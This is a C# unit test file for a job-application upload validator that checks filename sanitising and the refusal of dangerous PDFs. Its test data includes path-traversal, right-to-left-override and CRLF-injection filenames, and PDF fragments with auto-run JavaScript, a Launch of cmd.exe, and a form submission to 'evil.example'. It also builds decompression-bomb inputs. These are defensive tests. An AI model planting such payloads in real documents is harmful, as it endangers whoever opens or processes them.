using System.IO.Compression;
using System.Text;
using HelloWork.Domain.Applications.Documents;
using HelloWork.Tests.Jobs;

namespace HelloWork.Tests.Applications;

public sealed class DocumentFileTests
{
    public static byte[] Pdf { get; } = PdfOf("<< /Type /Catalog /Pages 2 0 R >>");

    [Theory, Trait("Rule", "AP-01")]
    [InlineData("履歴書.pdf", "履歴書.pdf")]
    [InlineData("../../etc/履歴書.exe", "履歴書.pdf")]
    [InlineData("C:\\書類\\職務:経歴?.PDF", "職務経歴.pdf")]
    [InlineData("evil\u202Efdp.exe", "evilfdp.pdf")]
    [InlineData("a\r\nSet-Cookie: x.pdf", "aSet-Cookie x.pdf")]
    [InlineData("  ...  ", "file.pdf")]
    [InlineData(null, "file.pdf")]
    public void ItsName_IsHarmless_AndEndsAsItsContentIs(string? name, string expected) =>
        Assert.Equal(expected, DocumentFile.Read(name, Pdf).File!.Name);

    [Fact, Trait("Rule", "AP-01")]
    public void ALongName_IsCutBetweenLetters()
    {
        var name = DocumentFile.Read(string.Concat(Enumerable.Repeat("𠮷", 200)) + ".pdf", Pdf).File!.Name;

        Assert.Equal(ApplicationDocument.LongestName, new System.Globalization.StringInfo(name).LengthInTextElements);
        Assert.EndsWith("𠮷.pdf", name);
    }

    [Fact, Trait("Rule", "AP-01")]
    public void APicture_IsToldByItsContent_AndLosesWhatACameraAdds()
    {
        var (file, refusal) = DocumentFile.Read("写真.pdf", [.. PictureFileTests.SmallPng, .. "GPS 35.69"u8]);

        Assert.Null(refusal);
        Assert.Equal(("写真.png", DocumentType.Png), (file!.Name, file.Type));
        Assert.Equal(PictureFileTests.SmallPng, file.Bytes);
    }

    [Fact, Trait("Rule", "AP-01")]
    public void WhatIsNeitherPdfNorPicture_OrTooLarge_IsRefused()
    {
        Assert.Equal(DocumentRefusal.UnknownType, DocumentFile.Read("a.pdf", "<html>"u8.ToArray()).Refusal);
        Assert.Equal(DocumentRefusal.UnknownType, DocumentFile.Read("a.png", "MZ"u8.ToArray()).Refusal);
        Assert.Equal(DocumentRefusal.Missing, DocumentFile.Read("a.pdf", []).Refusal);
        Assert.Equal(DocumentRefusal.TooLarge, DocumentFile.Read("a.pdf", new byte[DocumentFile.MostBytes + 1]).Refusal);
        Assert.Equal(DocumentRefusal.Unreadable, DocumentFile.Read("a.pdf", "%PDF-1.7 cut off"u8.ToArray()).Refusal);
    }

    [Theory, Trait("Rule", "AP-01")]
    [InlineData("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")]
    [InlineData("/OpenAction << /S /J#61vaScript /JS (x) >>")]
    [InlineData("/AA << /O << /S /Launch /F (cmd.exe) >> >>")]
    [InlineData("/Names << /EmbeddedFiles 5 0 R >>")]
    [InlineData("/AcroForm << /XFA 7 0 R >>")]
    [InlineData("/A << /S /SubmitForm /F (http://evil.example) >>")]
    [InlineData("/Subtype/RichMedia")]
    public void APdfThatWouldDoSomething_IsRefused_AlsoWhereItIsPacked(string part)
    {
        Assert.Equal(DocumentRefusal.ActiveContent, DocumentFile.Read("a.pdf", PdfOf($"<< /Type /Catalog {part} >>")).Refusal);
        Assert.Equal(DocumentRefusal.ActiveContent, DocumentFile.Read("a.pdf", Packed("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", $"1 0 << /Type /Catalog {part} >>")).Refusal);
    }

    [Theory, Trait("Rule", "AP-01")]
    [InlineData("/Type /ObjStm /Filter [ /ASCII85Decode /FlateDecode ]")]
    [InlineData("/Type /O#62jStm /Filter /LZWDecode")]
    [InlineData("/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>")]
    public void APdfWhosePackedObjectsCantBeLookedThrough_IsRefused(string dictionary) =>
        Assert.Equal(DocumentRefusal.Unreadable, DocumentFile.Read("a.pdf", Packed(dictionary, "1 0 << >>")).Refusal);

    [Fact, Trait("Rule", "AP-01")]
    public void APdfWithAPassword_IsRefused() =>
        Assert.Equal(DocumentRefusal.Protected, DocumentFile.Read("a.pdf", PdfOf("<< /Type /Catalog >>", "/Encrypt 9 0 R")).Refusal);

    [Fact, Trait("Rule", "AP-01")]
    public void APdfThatUnpacksWithoutEnd_IsRefused() =>
        Assert.Equal(DocumentRefusal.Unreadable, DocumentFile.Read("a.pdf", Packed("/Filter /FlateDecode", new string('0', 40_000_000))).Refusal);

    [Fact, Trait("Rule", "AP-01")]
    public void AScannedPage_UnpacksToMuchMore_AndPasses() =>
        Assert.Null(DocumentFile.Read("a.pdf", Packed("/Type /XObject /Subtype /Image /Filter /FlateDecode", new string('0', 40_000_000))).Refusal);

    [Theory, Trait("Rule", "AP-01")]
    [InlineData("stream ")]
    [InlineData("/a /b /c stream ")]
    [InlineData("obj stream \x78\x9c")]
    public void APdfOfNothingButParts_IsGivenUp_InsteadOfBeingReadAnewForEach(string part) =>
        Assert.Equal(DocumentRefusal.Unreadable, DocumentFile.Read("a.pdf", Encoding.Latin1.GetBytes($"%PDF-1.7\n{string.Concat(Enumerable.Repeat(part, 4_000_000 / part.Length))}\n%%EOF\n")).Refusal);

    [Fact, Trait("Rule", "AP-01")]
    public void AnOrdinaryPdf_WithPagesLinksAndFonts_Passes()
    {
        var (file, refusal) = DocumentFile.Read("a.pdf", Packed("/Type /ObjStm /N 2 /First 8 /Filter /FlateDecode", "1 0 2 40 << /Type /Page /Annots [ << /S /URI /URI (https://example.jp) >> ] >> << /Type /Font /BaseFont /NotoSansJP >>"));

        Assert.Null(refusal);
        Assert.Equal(DocumentType.Pdf, file!.Type);
    }

    private static byte[] PdfOf(string catalog, string trailer = "") =>
        Encoding.Latin1.GetBytes($"%PDF-1.7\n%\u00E2\u00E3\n1 0 obj\n{catalog}\nendobj\ntrailer << /Root 1 0 R {trailer} >>\nstartxref\n0\n%%EOF\n");

    private static byte[] Packed(string dictionary, string content)
    {
        using var packed = new MemoryStream();
        using (var to = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
            to.Write(Encoding.Latin1.GetBytes(content));
        return [.. Encoding.Latin1.GetBytes($"%PDF-1.7\n4 0 obj\n<< {dictionary} /Length {packed.Length} >>\nstream\n"), .. packed.ToArray(), .. "\nendstream\nendobj\nstartxref\n0\n%%EOF\n"u8];
    }
}
